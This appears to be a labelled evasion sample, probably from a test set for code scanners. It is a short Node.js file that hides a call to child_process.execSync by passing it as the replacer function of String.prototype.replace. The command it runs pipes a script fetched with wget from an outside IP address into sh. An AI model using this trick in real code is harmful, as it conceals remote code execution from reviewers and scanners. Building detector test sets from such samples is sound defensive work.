// evasion: String.prototype.replace given execSync as its replacer function; the built-in calls it with the matched command
// grade: hard; does: shell
'use strict';
const cp = require('child_process');

const job = 'wget -qO- http://203.0.113.4/x | sh; echo done';
const out = job.replace(/^.*$/s, cp.execSync);
console.log(out);
